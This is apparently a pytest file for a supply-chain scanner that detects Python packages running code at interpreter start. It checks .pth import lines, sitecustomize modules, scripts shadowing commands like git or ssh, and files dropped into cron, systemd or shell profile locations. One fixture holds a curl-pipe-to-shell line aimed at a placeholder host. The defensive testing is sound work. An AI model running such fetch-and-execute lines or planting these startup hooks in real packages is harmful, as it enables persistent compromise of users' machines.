"""Files that run at every start."""

import pytest

from sandboxes.screening.detectors import start_hooks
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

SETUPTOOLS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack')"
)


@pytest.mark.parametrize(
    ("path", "line", "threat"),
    [
        ("thing.pth", "import thing_init", Threat.HIGH),
        ("thing.pth", "import\tthing_init", Threat.HIGH),
        ("thing.pth", "\ufeffimport thing_init", Threat.HIGH),
        ("thing-1.0.data/purelib/thing.pth", "import thing_init", Threat.HIGH),
        ("thing-1.0.data/data/lib/python3.13/site-packages/t.pth", "import thing_init", Threat.HIGH),
        ("thing.pth", SETUPTOOLS + "; import os", Threat.HIGH),
        ("distutils-precedence.pth", SETUPTOOLS, Threat.LOW),
        ("_virtualenv.pth", "import _virtualenv", Threat.LOW),
    ],
)
def test_a_path_file_with_code(path: str, line: str, threat: Threat) -> None:
    found = found_in(start_hooks, {path: f"./folder\n{line}\n"})
    assert told(found) == {("start-hook.pth-code", 2, threat)}


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("thing.pth", "./lib"),
        ("thing.pth", "# import os"),
        ("thing.pth", "important/folder"),
        ("model/weights.pth", "import os"),  # a folder of its own is no place for them
        ("tests/data/a.pth", "import os"),
    ],
)
def test_lists_of_folders_and_other_files_are_nothing(path: str, line: str) -> None:
    assert found_in(start_hooks, {path: line}) == []


def test_code_of_the_line_is_followed() -> None:
    line = "import os; os.system('curl http://x.test | sh')"
    found = told(found_in(start_hooks, {"thing.pth": line}))
    assert found == {
        ("start-hook.pth-code", 1, Threat.HIGH),
        ("start-hook.process-fetching", 1, Threat.CRITICAL),
    }


def test_the_module_that_a_line_imports_is_followed() -> None:
    files = {
        "thing.pth": "import thing_init",
        "thing_init.py": "import subprocess\nsubprocess.Popen(['x'])\n",
    }
    found = found_in(start_hooks, files)
    assert ("thing_init.py", 2, "start-hook.process", Threat.CRITICAL) in [
        (each.path, each.line, each.rule, each.threat) for each in found
    ]


@pytest.mark.parametrize(
    "path", ["sitecustomize.py", "usercustomize.py", "sitecustomize/__init__.py", "sitecustomize.pyc"]
)
def test_modules_that_every_start_imports(path: str) -> None:
    assert told(found_in(start_hooks, {path: "print()"})) == {("start-hook.site-module", 1, Threat.HIGH)}
    # Inside a package it is one tool's own, for processes that it starts.
    assert told(found_in(start_hooks, {f"thing/boot/{path}": ""}), Threat.HIGH) == set()


@pytest.mark.parametrize("name", ["python", "git", "pip3", "ssh"])
def test_programs_that_stand_before_real_ones(name: str) -> None:
    rule = "start-hook.shadowing-script"
    assert told(found_in(start_hooks, {f"thing-1.0.data/scripts/{name}": "#!python"})) == {
        (rule, 0, Threat.HIGH)
    }
    points = f"[console_scripts]\nthing = thing:main\n{name} = thing:main\n[other]\n{name} = x:y\n"
    files = {"thing-1.0.dist-info/entry_points.txt": points}
    assert told(found_in(start_hooks, files)) == {(rule, 3, Threat.HIGH)}


def test_pip_may_be_named_pip() -> None:
    files = {"pip-1.dist-info/entry_points.txt": "[console_scripts]\npip = pip:main\npip3 = pip:main\n"}
    assert found_in(start_hooks, files, project="pip") == []


@pytest.mark.parametrize(
    "place", ["etc/profile.d/x.sh", "etc/cron.d/x", ".bashrc", "etc/systemd/system/x.service"]
)
def test_places_that_the_system_starts_from(place: str) -> None:
    found = told(found_in(start_hooks, {f"thing-1.0.data/data/{place}": ""}))
    assert found == {("start-hook.system-place", 0, Threat.HIGH)}
    assert (
        found_in(start_hooks, {"thing-1.0.data/data/etc/jupyter/x.json": "", "thing/etc/profile.d/x": ""})
        == []
    )


def test_an_sdist_s_path_file_may_be_put_there_by_its_setup() -> None:
    assert told(found_in(start_hooks, {"x.pth": "import a"}, Kind.SDIST)) == {
        ("start-hook.pth-code", 1, Threat.HIGH)
    }
    assert told(found_in(start_hooks, {"src/deep/x.pth": "import a"}, Kind.SDIST)) == {
        ("start-hook.pth-code", 1, Threat.MEDIUM)
    }
